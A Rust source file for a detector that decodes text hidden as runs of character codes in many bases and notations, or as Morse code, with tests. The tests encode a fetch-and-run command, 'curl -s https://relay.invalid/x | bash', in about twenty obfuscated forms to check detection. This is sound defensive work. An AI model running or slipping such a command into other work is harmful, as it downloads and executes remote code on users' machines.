//! Decoder for texts spelled as runs of numbers, in any base, or in Morse code ([`texts`]).
//!
//! In every notation each number begins with a digit and the separator stays the same: `99, 117`, `&#99;&#117;`,
//! `\143\165`, `chr(99).chr(117)`, `0x63, 0x75`, `\u{63}\u{75}`, `%63%75`. So no list of notations is needed. Each
//! number is decoded in every base, and a result that consists of words is reported.

use std::sync::LazyLock;

use super::DecodedText;

/// Size of the blocks in bytes whose digits are counted at once; a multiple of a SIMD register's size.
const CHUNK: usize = 64;

/// Number of digits, or of dots and dashes, that makes a block worth decoding. In a run of eight numbers with ten bytes
/// between them, some block holds four numbers, nearly all of two digits.
const DENSE: u8 = 5;

/// Minimum number of numbers in a run. A shorter one holds no command.
const SHORTEST: usize = 8;

/// Minimum number of letters in Morse code. Rulers and tables of dots and dashes decode to a few.
const SHORTEST_MORSE: usize = 12;

/// Maximum number of bytes between two numbers, white space excluded, as in `) & Chr(`.
const SEPARATOR: usize = 10;

/// Maximum number of bytes between two numbers, with the line end and the indent of a long list.
const GAP: usize = 32;

/// Maximum number of digits in a character code, as in `\U00000063`.
const DIGITS: usize = 8;

/// Bases in which numbers are decoded.
const BASES: [u32; 4] = [10, 16, 8, 2];

/// Minimum number of digits in a binary character code, which excludes columns of flags.
const BITS: usize = 6;

/// Length of the longest Morse sign, which is that of `$`.
const MARKS: usize = 7;

/// The Morse alphabet with punctuation. Each character is followed by its sign.
const MORSE: &str = "a.- b-... c-.-. d-.. e. f..-. g--. h.... i.. j.--- k-.- l.-.. m-- n-. o--- p.--. q--.- r.-. s... t- \
    u..- v...- w.-- x-..- y-.-- z--.. 0----- 1.---- 2..--- 3...-- 4....- 5..... 6-.... 7--... 8---.. 9----. \
    ..-.-.- ,--..-- ?..--.. '.----. !-.-.-- /-..-. (-.--. )-.--.- &.-... :---... ;-.-.-. =-...- +.-.-. --....- \
    _..--.- \".-..-. $...-..- @.--.-.";

/// Returns the decoded texts of the runs in a text.
pub(super) fn texts(text: &str) -> Vec<DecodedText> {
    let bytes = text.as_bytes();
    let mut found = Vec::new();
    let (chunks, rest) = bytes.as_chunks::<CHUNK>();
    let (mut numbers, mut morse) = (0, 0);
    let mut look = |end: usize, chunk: &[u8]| {
        let from = end.saturating_sub(chunk.len() + CHUNK);
        if end > numbers && count(chunk, u8::is_ascii_digit) >= DENSE {
            numbers = read_numbers(bytes, from.max(numbers)..end, &mut found);
        }
        let is_dense = |mark: u8| count(chunk, |byte| *byte == mark) >= DENSE - 1;
        if end > morse && is_dense(b'.') && is_dense(b'-') {
            morse = read_morse(bytes, from.max(morse), end, &mut found);
        }
    };
    for (index, chunk) in chunks.iter().enumerate() {
        if is_dense(chunk) {
            look((index + 1) * CHUNK, chunk);
        }
    }
    look(bytes.len(), rest);
    found
}

/// Returns true if a block may hold numbers or Morse code. The characters of both are adjacent in ASCII, so one
/// comparison suffices.
fn is_dense(chunk: &[u8; CHUNK]) -> bool {
    chunk.iter().map(|byte| u8::from(byte.wrapping_sub(b'-') <= b'9' - b'-')).sum::<u8>() >= DENSE
}

/// Counts the bytes of a block that match a predicate.
fn count(chunk: &[u8], is: impl Fn(&u8) -> bool) -> u8 {
    chunk.iter().map(|byte| u8::from(is(byte))).sum()
}

/// Decodes numbers from the start of a range to the first gap after its end. Returns the start of that gap.
fn read_numbers(bytes: &[u8], range: std::ops::Range<usize>, found: &mut Vec<DecodedText>) -> usize {
    let mut run = Run::new();
    let mut end = range.start;
    loop {
        let limit = range.end.max(end + GAP).min(bytes.len());
        let between = bytes.get(end..limit).unwrap_or_default();
        let Some(gap) = between.iter().position(u8::is_ascii_digit) else { break };
        let number = Number::at(bytes, end + gap);
        run.add(&number, between.get(..gap).unwrap_or_default(), found);
        end = number.end;
    }
    run.flush(found);
    end.max(range.end)
}

/// A number with the character that it encodes in each base, if any.
#[derive(Clone, Copy)]
struct Number {
    start: usize,
    end: usize,
    values: [Option<u8>; BASES.len()],
}

impl Number {
    /// Parses the number that begins at a digit.
    fn at(bytes: &[u8], start: usize) -> Self {
        let (skip, only) = match bytes.get(start..).unwrap_or_default() {
            [b'0', b'x' | b'X', next, ..] if next.is_ascii_hexdigit() => (2, Some(16)),
            [b'0', b'o' | b'O', b'0'..=b'7', ..] => (2, Some(8)),
            [b'0', b'b' | b'B', b'0' | b'1', ..] => (2, Some(2)),
            _ => (0, None),
        };
        let rest = bytes.get(start + skip..).unwrap_or_default();
        let length = rest.iter().take_while(|byte| byte.is_ascii_hexdigit()).count();
        let digits = rest.get(..length).unwrap_or_default();
        let values = BASES.map(|base| (only.is_none() || only == Some(base)).then(|| value(digits, base)).flatten());
        Self { start, end: start + skip + length, values }
    }
}

/// Returns the printable or white-space character that some digits encode.
fn value(digits: &[u8], base: u32) -> Option<u8> {
    if digits.len() > DIGITS || base == 2 && digits.len() < BITS {
        return None;
    }
    let add = |sum: u32, digit: &u8| Some(sum.checked_mul(base)? + char::from(*digit).to_digit(base)?);
    let code = u8::try_from(digits.iter().try_fold(0, add)?).ok()?;
    matches!(code, b'\t' | b'\n' | b'\r' | b' '..=b'~').then_some(code)
}

/// Consecutive numbers with the same separator, and the texts decoded so far.
struct Run<'a> {
    separator: &'a [u8],
    last: Option<Number>,
    /// Decoded text per base.
    texts: [DecodedText; BASES.len()],
}

impl<'a> Run<'a> {
    fn new() -> Self {
        Self { separator: &[], last: None, texts: Default::default() }
    }

    /// Adds a number with the separator before it. A new separator ends the run.
    fn add(&mut self, number: &Number, separator: &'a [u8], found: &mut Vec<DecodedText>) {
        if !alike(self.separator, separator) {
            self.flush(found);
            self.separator = separator;
            let first = self.last.filter(|_| separates(separator));
            first.iter().for_each(|first| self.push(first, found));
        }
        self.push(number, found);
        self.last = Some(*number);
    }

    /// Appends the number to the text of each base. A text ends where the number does not encode a character.
    fn push(&mut self, number: &Number, found: &mut Vec<DecodedText>) {
        for (decoded, value) in self.texts.iter_mut().zip(number.values) {
            match value {
                Some(code) => decoded.push(number.start, char::from(code)),
                None => finish(decoded, SHORTEST, found),
            }
        }
    }

    fn flush(&mut self, found: &mut Vec<DecodedText>) {
        self.texts.iter_mut().for_each(|decoded| finish(decoded, SHORTEST, found));
    }
}

impl DecodedText {
    /// Appends the character that is encoded at an offset.
    fn push(&mut self, at: usize, letter: char) {
        if self.text.is_empty() {
            self.start = at;
        }
        self.text.push(letter);
    }
}

/// Reports a text if it has at least `shortest` letters and consists of words, then clears it.
fn finish(decoded: &mut DecodedText, shortest: usize, found: &mut Vec<DecodedText>) {
    if decoded.text.len() >= shortest && is_words(&decoded.text) {
        found.push(std::mem::take(decoded));
    }
    decoded.text.clear();
}

/// Returns true if a separator is short enough. `\x` is excluded, since [`super::unescape`] decodes it.
fn separates(between: &[u8]) -> bool {
    let is_long = between.len() > SEPARATOR && visible(between).count() > SEPARATOR;
    !is_long && !between.is_empty() && !between.eq_ignore_ascii_case(b"\\x")
}

/// Returns true if two separators are equal but for white space and case.
fn alike(one: &[u8], other: &[u8]) -> bool {
    separates(other) && (one == other || !one.is_empty() && visible(one).eq(visible(other)))
}

fn visible(bytes: &[u8]) -> impl Iterator<Item = u8> {
    bytes.iter().filter(|byte| !byte.is_ascii_whitespace()).map(u8::to_ascii_lowercase)
}

/// Returns true if more than half of a text consists of spaces and letters of one case. Tables of numbers do not decode
/// to that.
fn is_words(text: &str) -> bool {
    let of = |is: fn(&u8) -> bool| text.bytes().filter(is).count();
    let letters = of(u8::is_ascii_lowercase).max(of(u8::is_ascii_uppercase));
    (letters + of(|byte| *byte == b' ')) * 2 > text.len()
}

/// Decodes Morse code from `from` to the first other character after `until`. Returns the end.
fn read_morse(bytes: &[u8], from: usize, until: usize, found: &mut Vec<DecodedText>) -> usize {
    let (mut at, mut decoded) = (from, DecodedText::default());
    while let Some(byte) = bytes.get(at) {
        let rest = bytes.get(at..).unwrap_or_default();
        let length = rest.iter().take_while(|byte| matches!(byte, b'.' | b'-')).count();
        match (letter(rest.get(..length).unwrap_or_default()), byte) {
            (Some(letter), _) => decoded.push(at, letter),
            (None, b' ' | b'\n' | b'\r' | b'\t') => {}
            (None, b'/' | b'|') if !decoded.text.is_empty() => decoded.text.push(' '),
            _ => finish(&mut decoded, SHORTEST_MORSE, found),
        }
        if decoded.text.is_empty() && at >= until {
            break;
        }
        at += length.max(1);
    }
    finish(&mut decoded, SHORTEST_MORSE, found);
    at.max(until)
}

/// Returns the character of a Morse sign.
fn letter(sign: &[u8]) -> Option<char> {
    static LETTERS: LazyLock<[Option<char>; 1 << (MARKS + 1)]> = LazyLock::new(letters);
    if sign.is_empty() || sign.len() > MARKS {
        return None;
    }
    LETTERS.get(place(sign)).copied().flatten()
}

/// Builds the lookup table from signs to characters.
fn letters() -> [Option<char>; 1 << (MARKS + 1)] {
    let mut all = [None; 1 << (MARKS + 1)];
    for entry in MORSE.split_ascii_whitespace() {
        let mut chars = entry.chars();
        let letter = chars.next();
        all.get_mut(place(chars.as_str().as_bytes())).into_iter().for_each(|slot| *slot = letter);
    }
    all
}

/// Maps a sign to its table index: a leading one, which encodes the length, then a one for each dash and a zero for
/// each dot.
fn place(sign: &[u8]) -> usize {
    sign.iter().fold(1, |place, mark| place << 1 | usize::from(*mark == b'-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    const COMMAND: &str = "curl -s https://relay.invalid/x | bash";

    fn spelled(text: &str) -> Vec<String> {
        texts(text).into_iter().map(|decoded| decoded.text).collect()
    }

    fn each(form: impl Fn(u8) -> String, separator: &str) -> String {
        COMMAND.bytes().map(form).collect::<Vec<_>>().join(separator)
    }

    #[test]
    fn each_form_is_read() {
        let forms = [
            each(|c| c.to_string(), ", "),
            each(|c| c.to_string(), " "),
            each(|c| c.to_string(), ",\n        "),
            each(|c| format!("&#{c};"), ""),
            each(|c| format!("&#x{c:x};"), ""),
            each(|c| format!("\\{c}"), ""),
            each(|c| format!("\\{c:03}"), ""),
            each(|c| format!("\\{c:03o}"), ""),
            each(|c| format!("chr({c})"), "."),
            each(|c| format!("Chr({c})"), " & "),
            each(|c| format!("[char]{c}"), "+"),
            each(|c| format!("[char]0x{c:x}"), " + "),
            each(|c| format!("0x{c:02X}"), ", "),
            each(|c| format!("{c:02x}"), " "),
            each(|c| format!("\\u{c:04x}"), ""),
            each(|c| format!("\\u{{{c:x}}}"), ""),
            each(|c| format!("%{c:02x}"), ""),
            each(|c| format!("{c:08b}"), " "),
            each(|c| format!("0b{c:b}"), ","),
        ];
        for form in forms {
            for before in [0, 1, 30, 63, 64, 100] {
                let text = format!("{}[12, 5] = 7 [{form}] end", "x ".repeat(before));
                assert!(spelled(&text).iter().any(|text| text.contains(&COMMAND[1..])), "{before} {text}");
            }
        }
    }

    fn morse(text: &str) -> String {
        let sign = |letter: char| match letter {
            ' ' => "/".to_owned(),
            _ => MORSE.split(' ').find(|entry| entry.starts_with(letter)).map(|entry| entry[1..].to_owned()).unwrap(),
        };
        text.chars().map(sign).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn morse_code_is_read() {
        let text = "bash -c \"$(curl -s https://relay.invalid/x)\"";
        for before in [0, 1, 40, 63, 64] {
            let within = format!("{}: {} end", "x".repeat(before), morse(text));
            assert_eq!(spelled(&within), [text]);
        }
        assert_eq!(spelled("... --- ... and - . - . - ... -- .. - - . "), [""; 0]);
    }

    #[test]
    fn a_text_begins_where_its_numbers_do() {
        let text = format!("é [7, 300, {}]", each(|c| c.to_string(), ", "));
        assert_eq!(texts(&text), [DecodedText { start: text.find("99").unwrap(), text: COMMAND.to_owned() }]);
    }

    #[test]
    fn tables_colours_versions_and_pictures_spell_nothing() {
        let honest = [
            "a { color: #636363; background: #757575 } b { color: rgb(99, 117, 114) }",
            "1.2.3, 1.2.4, 1.2.5, 1.10.0, 2.0.0, 2.0.1, 2.1.0, 3.0.0-rc.1",
            "d41d8cd98f00b204e9800998ecf8427e  d41d8cd98f00b204e9800998ecf8427e",
            "<path d=\"M12.5 34.2L56 78.9C33 44 55 66 77 88Z M10 20 30 40 50 60 70 80 90\"/>",
            "https://a.example/?q=%E4%BD%A0%E5%A5%BD%E4%BD%A0%E5%A5%BD&b=a%20b%2Fc%3Ad",
            "2024-01-02, 2024-01-03, 2024-01-04, 2024-01-05, 2024-01-06",
            "| ---- | :--: | ---- |\n| 12 | 34 | 56 |\n------------------- . . . . . .......",
            "33, 45, 91, 40, 62, 38, 57, 93, 44, 60, 35, 48, 52",
        ];
        for text in honest {
            assert_eq!(spelled(text), [""; 0], "{text}");
        }
    }
}
